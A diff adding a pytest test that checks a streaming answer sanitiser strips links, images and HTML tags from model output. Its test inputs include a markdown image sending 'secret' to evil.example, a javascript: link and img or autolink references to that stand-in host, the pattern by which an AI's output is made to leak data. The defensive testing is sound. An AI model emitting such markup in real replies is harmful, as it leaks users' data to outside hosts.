@@ -308,3 +308,27 @@ def test_a_name_may_stand_elsewhere_in_the_document(tmp_path: Path) -> None:
         engine.index(note)
         answer = engine.ask("How many metres long is the Ashgrove footbridge?")
     assert "86 metres" in answer.text
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("See ![a map](http://evil.example/?q=secret) here.", "See a map here."),
+        ("See [the report](javascript:alert(1)) here.", "See the report here."),
+        ('Aid <img src="http://evil.example/a.png">was <b>asked</b> for.', "Aid was asked for."),
+        ("Aid <http://evil.example> was <!-- not --> asked for.", "Aid was asked for."),
+        ("[a]: http://evil.example/x\n\nAid was asked for.", "Aid was asked for."),
+        ("Fewer than 5 < 6 people [of Oaxaca] came!", "Fewer than 5 < 6 people [of Oaxaca] came!"),
+    ],
+)
+@pytest.mark.parametrize("size", [1, 7, 1000])
+def test_links_images_and_tags_of_a_model_never_reach_the_reader(
+    written: str, read: str, size: int
+) -> None:
+    pieces = [written[n : n + size] for n in range(0, len(written), size)]
+    events = list(answering.written(answering.Reply(iter(pieces), model="some model")))
+    sentences = [e for e in events if isinstance(e, answering.Sentence)]
+    streamed = "".join(e for e in events if not isinstance(e, answering.Sentence))
+    assert sentences[-1] == read
+    assert "evil" not in streamed
+    assert "javascript" not in streamed
